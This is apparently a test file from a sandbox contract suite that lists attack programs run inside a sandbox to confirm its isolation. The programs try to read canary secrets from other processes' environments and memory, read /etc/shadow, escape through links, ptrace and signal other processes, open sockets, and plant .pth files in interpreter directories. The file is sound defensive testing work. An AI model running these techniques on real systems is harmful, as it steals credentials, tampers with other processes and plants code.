"""Programs that reach for what is not theirs: files, secrets, networks, other processes, the interpreter."""

from typing import Final

from tests.contract.sandbox.attacks.attack import attack

REACHING: Final = [
    attack(
        "secrets of the pod",
        "its environment",
        """
        attempt("own", lambda: any("CANARY" in name for name in os.environ))
        for process in ("self", "1", str(os.getppid()), str(HOST_PID), str(DECOY_PID)):
            attempt(process, lambda: CANARY_NAME in open(f"/proc/{process}/environ").read())
        """,
    ),
    attack(
        "secrets of the pod",
        "its environment in memory",
        """
        canary = CANARY_NAME.encode() + b"="  # As the environment has it, and the text of this program has not.
        def strings():
            entries = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
            place = 0
            while entries[place]:
                yield entries[place]
                place += 1
        attempt("of the C library", lambda: any(canary in entry for entry in strings()))
        def stack(process):
            maps = open(f"/proc/{process}/maps").read().splitlines()
            start, end = (int(at, 16) for at in next(m for m in maps if "[stack]" in m).split()[0].split("-"))
            with open(f"/proc/{process}/mem", "rb", buffering=0) as memory:
                memory.seek(start)
                return canary in memory.read(end - start)
        for process in ("self", "1", str(os.getppid()), str(HOST_PID), str(DECOY_PID)):
            attempt(f"stack of {process}", lambda: stack(process))
        """,
    ),
    attack(
        "secrets of the pod",
        "its files",
        """
        host = f"/proc/{HOST_PID}/cmdline"
        for path in ("/etc/shadow", "/etc/passwd", REPOSITORY_FILE, OTHER_SAMPLE, SHARED_MEMORY, host):
            attempt(path, reads(path))
        attempt("directory of samples", lambda: bool(os.listdir(os.path.dirname(OTHER_SAMPLE))))
        """,
    ),
    attack(
        "secrets of the pod",
        "through links",
        """
        def by(make, name):
            def action():
                try:
                    make(OTHER_SAMPLE, name)
                    return bool(open(name).read())
                finally:
                    discard(name)
            return action
        for directory in ("/tmp", "."):
            attempt("symbolic", by(os.symlink, directory + "/longshore-attack-link"))
            attempt("hard", by(os.link, directory + "/longshore-attack-hard-link"))
        attempt("root of another", reads(f"/proc/{os.getppid()}/root{OTHER_SAMPLE}"))
        attempt("root of the host", reads(f"/proc/{HOST_PID}/root{OTHER_SAMPLE}"))
        """,
    ),
    attack(
        "secrets of the pod",
        "what its paths are",
        """
        directory = os.path.dirname(OTHER_SAMPLE)
        attempt("descriptor", lambda: os.open(OTHER_SAMPLE, os.O_PATH) >= 0)
        attempt("access", lambda: os.access(OTHER_SAMPLE, os.F_OK))
        attempt("directory", lambda: os.chdir(directory))
        attempt("file system", lambda: bool(os.statvfs(OTHER_SAMPLE)))
        """,
    ),
    attack(
        "other programs",
        "locks on files that all can read",
        """
        import fcntl, struct
        file = open(LOCKED_FILE, "rb")
        def locked(lock):
            try:
                lock()
            except BlockingIOError:
                return True
            return False
        attempt("flock", lambda: locked(lambda: fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)))
        lock = struct.pack("hhqqi4x", fcntl.F_WRLCK, 0, 0, 0, 0)
        for command in (fcntl.F_GETLK, 36):  # F_OFD_GETLK
            attempt("query", lambda: struct.unpack("hhqqi4x", fcntl.fcntl(file, command, lock))[0] != fcntl.F_UNLCK)
        attempt("lease", lambda: fcntl.fcntl(file, fcntl.F_GETLEASE) >= 0)
        device = open("/dev/null", "r+b")
        for command in (fcntl.F_SETLK, 37):  # F_OFD_SETLK
            attempt("lock", lambda: locked(lambda: fcntl.fcntl(device, command, lock)))
        for command in (fcntl.F_SETLKW, 38):  # F_OFD_SETLKW
            if not escaped:  # Where these do something, they wait until the time is over.
                attempt("wait for lock", lambda: locked(lambda: fcntl.fcntl(device, command, lock)))
        """,
    ),
    attack(
        "files of the pod",
        "changing what is not open",
        """
        for path in (LOOSE_FILE, OTHER_SAMPLE):
            # None of it changes anything.
            attempt(f"length of {path}", lambda: os.truncate(path, os.stat(path).st_size))
            attempt(f"times of {path}", lambda: os.utime(path))
            attempt(f"mode of {path}", lambda: os.chmod(path, 0o666 if path == LOOSE_FILE else 0o644))
        """,
    ),
    attack(
        "network",
        "connecting",
        """
        def connect():
            with socket.create_connection(("127.0.0.1", TCP_PORT), timeout=1):
                pass
        attempt("tcp", connect)
        """,
    ),
    attack(
        "network",
        "listening",
        """
        def listen():
            with socket.socket() as server:
                server.bind(("127.0.0.1", 0))
                server.listen()
                with socket.create_connection(server.getsockname(), timeout=1):
                    pass
        attempt("tcp", listen)
        """,
    ),
    attack(
        "network",
        "datagrams",
        """
        def send(family, address):
            with socket.socket(family, socket.SOCK_DGRAM) as sender:
                sender.sendto(b"secret", address)
        attempt("udp", lambda: send(socket.AF_INET, ("127.0.0.1", UDP_PORT)))
        attempt("name server", lambda: send(socket.AF_INET, ("192.0.2.1", 53)))
        """,
    ),
    attack(
        "network",
        "local sockets",
        """
        def connect(address):
            with socket.socket(socket.AF_UNIX) as client:
                client.settimeout(1)
                client.connect(address)
        attempt("abstract", lambda: connect("\\0" + ABSTRACT_SOCKET))
        attempt("path", lambda: connect(SOCKET_PATH))
        def datagram_pair():
            mine, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
            mine.sendto(b"secret", "\\0" + ABSTRACT_DATAGRAM)
        attempt("pair", datagram_pair)
        """,
    ),
    attack(
        "other processes",
        "signals",
        """
        attempt("another", lambda: os.kill(DECOY_PID, signal.SIGUSR1))
        attempt("its parent", lambda: os.getppid() > 1 and os.kill(os.getppid(), signal.SIGCONT))
        attempt("the host", lambda: os.kill(HOST_PID, 0))
        def owner():
            import fcntl
            read, write = os.pipe()
            fcntl.fcntl(read, fcntl.F_SETOWN, DECOY_PID)
            fcntl.fcntl(read, 10, signal.SIGUSR1)  # F_SETSIG
            fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC)
            os.write(write, b"x")
            return False  # Whether it came, the neighbour knows.
        attempt("by a descriptor", owner)
        """,
    ),
    attack(
        "other processes",
        "tracing",
        """
        X86 = os.uname().machine == "x86_64"
        PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
        for process in {DECOY_PID, HOST_PID, os.getppid()} - {0}:
            def trace():
                ptrace = 101 if X86 else 117
                seized = call(ptrace, PTRACE_SEIZE, process, None, None)()
                if seized:
                    call(ptrace, PTRACE_DETACH, process, None, None)()
                return seized
            attempt(f"ptrace {process}", trace)
            attempt(f"memory of {process}", lambda: bool(open(f"/proc/{process}/mem", "r+b")))
            attempt(f"descriptors of {process}", lambda: bool(os.listdir(f"/proc/{process}/fd")))
            def read_memory():
                data = ctypes.create_string_buffer(8)
                vector = (ctypes.c_size_t * 2)(ctypes.addressof(data), 8)
                return libc.process_vm_readv(process, vector, 1, vector, 1, 0) >= 0 or ctypes.get_errno() == 14
            attempt(f"process_vm_readv {process}", read_memory)
            def write_memory():  # Where nothing is: allowed, it would be a fault.
                here, there = (ctypes.c_size_t * 2)(id(process), 8), (ctypes.c_size_t * 2)(0, 8)
                return libc.process_vm_writev(process, here, 1, there, 1, 0) >= 0 or ctypes.get_errno() == 14
            attempt(f"process_vm_writev {process}", write_memory)
            attempt(f"limits of {process}", lambda: __import__("resource").prlimit(process, 7))
        """,
    ),
    attack(
        "other processes",
        "by descriptors of them",
        """
        PIDFD_SEND_SIGNAL, PIDFD_GETFD = 424, 438
        for process in {DECOY_PID, HOST_PID, os.getppid()} - {0}:
            def with_descriptor(number, *arguments):
                return lambda: call(number, os.pidfd_open(process), *arguments)()
            attempt(f"signal to {process}", with_descriptor(PIDFD_SEND_SIGNAL, 0, None, 0))
            attempt(f"descriptor of {process}", with_descriptor(PIDFD_GETFD, 0, 0))
        attempt("signal", lambda: signal.pidfd_send_signal(os.pidfd_open(DECOY_PID), signal.SIGUSR1))
        """,
    ),
    attack(
        "interpreter and packages",
        "overwriting",
        """
        for path in (os.__file__, sys.executable, os.path.realpath("/proc/self/exe"), REPOSITORY_FILE):
            attempt(path, lambda: bool(open(path, "r+b")))
        def create(directory):
            path = directory + "/longshore-attack.py"
            open(path, "w").close()
            discard(path)
        for directory in (os.path.dirname(os.__file__), os.path.dirname(REPOSITORY_FILE), "/usr/lib", "/etc", "/"):
            attempt(directory, lambda: create(directory))
        """,
    ),
    attack(
        "interpreter and packages",
        "planting and changing",
        """
        library, package = os.path.dirname(os.__file__), os.path.dirname(REPOSITORY_FILE)
        def plant(make, path):
            make(path)
            discard(path)
        for directory in (library, library + "/encodings", library + "/__pycache__", package):
            path = directory + "/longshore-attack.pth"
            attempt(f"link in {directory}", lambda: plant(lambda path: os.symlink("/tmp/module.py", path), path))
            attempt(f"hard link in {directory}", lambda: plant(lambda path: os.link(os.__file__, path), path))
        for path in (os.__file__, sys.executable, REPOSITORY_FILE):
            # None of it changes anything.
            attempt(f"length of {path}", lambda: os.truncate(path, os.stat(path).st_size))
            attempt(f"mode of {path}", lambda: os.chmod(path, os.stat(path).st_mode & 0o7777))
            attempt(f"attribute of {path}", lambda: os.setxattr(path, "user.longshore", b"x"))
            attempt(f"no attribute of {path}", lambda: os.removexattr(path, "user.longshore"))
        """,
    ),
]
